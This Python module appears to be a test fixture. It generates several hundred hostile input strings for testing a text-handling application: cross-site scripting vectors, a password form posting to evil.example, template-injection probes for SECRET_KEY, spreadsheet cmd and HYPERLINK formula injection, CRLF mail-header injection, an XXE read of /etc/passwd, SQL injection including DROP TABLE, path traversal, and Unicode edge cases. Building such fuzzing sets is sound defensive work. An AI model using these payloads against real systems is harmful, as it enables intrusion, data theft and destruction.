"""Words written to hurt whoever reads them: what attackers really type, made into some four hundred by a few turns."""

from __future__ import annotations

MARK = "xq7"
"""Stands in each word that would run, so that it is found wherever it went."""

MARKUP = (
    f"<script>{MARK}()</script>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<ScRiPt>{MARK}()</sCrIpT>",
    f"<scr<script>ipt>{MARK}()</scr</script>ipt>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><img src=x onerror={MARK}()>",
    f"--><svg onload={MARK}()>",
    f"]]><script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<img/src='x'/onerror={MARK}()>",
    f"<img src=x:{MARK} onerror\n=\n{MARK}()>",
    f"<svg/onload={MARK}()>",
    f"<svg><animate onbegin={MARK}() attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{MARK}()'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,{MARK}'/></svg>",
    f"<math><mtext><style><img src onerror={MARK}()></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<iframe src='javascript:{MARK}()'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{MARK}()&lt;/script&gt;'></iframe>",
    f"<object data='javascript:{MARK}()'></object>",
    f"<embed src='javascript:{MARK}()'>",
    f"<form action='//evil.example/{MARK}'><input name=password><button>OK</button></form>",
    f"<button formaction='javascript:{MARK}()'>OK</button>",
    f"<a href='javascript:{MARK}()'>x</a>",
    f"<a href='java\tscript:{MARK}()'>x</a>",
    f"<a href='&#106;avascript:{MARK}()'>x</a>",
    f"<a href='data:text/html,<script>{MARK}()</script>'>x</a>",
    f"<a href='vbscript:{MARK}'>x</a>",
    f"<base href='//evil.example/{MARK}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
    f"<link rel=stylesheet href='//evil.example/{MARK}.css'>",
    f"<style>@import '//evil.example/{MARK}';*{{display:none}}</style>",
    f"<div style='background:url(//evil.example/{MARK})'>x</div>",
    f"<details open ontoggle={MARK}()>x</details>",
    f"<video><source onerror={MARK}()></video>",
    f"<body onload={MARK}()>",
    f"<marquee onstart={MARK}()>x</marquee>",
    f"<input autofocus onfocus={MARK}()>",
    f"<template><script>{MARK}()</script></template>",
    f"<x onclick={MARK}() tabindex=1 id={MARK}>x</x>",
)
BROKEN_OUT = (
    f'" onmouseover="{MARK}()',
    f"' onmouseover='{MARK}()",
    f'x" autofocus onfocus={MARK}() y="',
    f'"><img src=x onerror={MARK}()>',
    f"'><svg onload={MARK}()>",
    f"`onmouseover={MARK}()",
    f"javascript:{MARK}()",
    f"data:text/html;base64,PHNjcmlwdD4{MARK}",
    f"//evil.example/{MARK}",
    f"[x](javascript:{MARK}\\(\\))",
    f"[x](  JaVaScRiPt:{MARK}())",
    f"![x](//evil.example/{MARK}.png)",
    f"<javascript:{MARK}()>",
    f"[x]: javascript:{MARK}()\n[x]",
    f"**<img src=x onerror={MARK}()>**",
    f"{{{{ 7*7 }}}}{{% for {MARK} in ().__class__ %}}",
    f"{{{{ config.SECRET_KEY }}}}{MARK}",
    f"${{{{7*7}}}}#{{7*7}}<%= {MARK} %>",
    f"%(title)s %s {{0}} {{0.__class__}} {MARK}",
    f"\\u003cscript\\u003e{MARK}()\\u003c/script\\u003e",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"+ADw-script+AD4-{MARK}()+ADw-/script+AD4-",
)
FORMULAS = (
    f'=HYPERLINK("http://evil.example/{MARK}";"x")',
    f"=cmd|'/C {MARK}'!A0",
    f"+cmd|' /C {MARK}'!A0",
    f"-2+3+cmd|' /C {MARK}'!A0",
    f"@SUM(1+1)*cmd|' /C {MARK}'!A0",
    f"\t=1+{MARK}",
    f"\r=1+{MARK}",
    f" =1+{MARK}",
    f"\uff1d1+{MARK}",
    f'";=1+{MARK};"',
    f"x\r\n=1+{MARK}",
)
LINES = (
    f"x\r\nBcc: {MARK}@evil.example",
    f"x\nSubject: {MARK}",
    f"x%0d%0aSet-Cookie: {MARK}=1",
    f"x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{MARK}",
    f"x\\nATTACH:http://evil.example/{MARK}",
    f"x;y,z\\;{MARK}\\",
    f"x\u2028BEGIN:VALARM\u2029{MARK}",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{MARK}</x>",
    f"<![CDATA[{MARK}]]>&e;&{MARK};",
    f'","admin":true,"{MARK}":"',
    f"' OR 1=1 -- {MARK}",
    f"'; DROP TABLE project; -- {MARK}",
    f"../../../../etc/passwd {MARK}",
    f"..\\..\\windows\\win.ini {MARK}",
    f"file:///etc/passwd {MARK}",
    f"COM1 {MARK}",
)
SIGNS = (
    f"\u202e{MARK}\u202c abc",
    f"un\u200bdeux\u200d\ufeff{MARK}",
    f"e\u0301\u0302\u0303\u0304\u0305\u0306{MARK}" * 20,
    f"👩‍👩‍👧‍👦🏴\U000e0067\U000e0062🎉 {MARK}",
    f"\ud83d {MARK}".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    f"\x1b[31m\x07\x08{MARK}",
    f"\ufffe\uffff{MARK}",
    f"A\u0000B{MARK}".replace("\0", ""),
    f"ﷺ{MARK}" * 30,
    f"{MARK}{'a' * 3000}",
)
TURNS = ("§", "Un jardin § partagé", "§\n\n* un\n* deux", "«\u00a0§\u00a0»")
"""How a word (§) may stand: alone, in the middle of a sentence, before a list, between French quotes."""

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        turn.replace("§", words) for turn in TURNS for words in (*MARKUP, *BROKEN_OUT, *FORMULAS, *LINES, *SIGNS)
    )
)
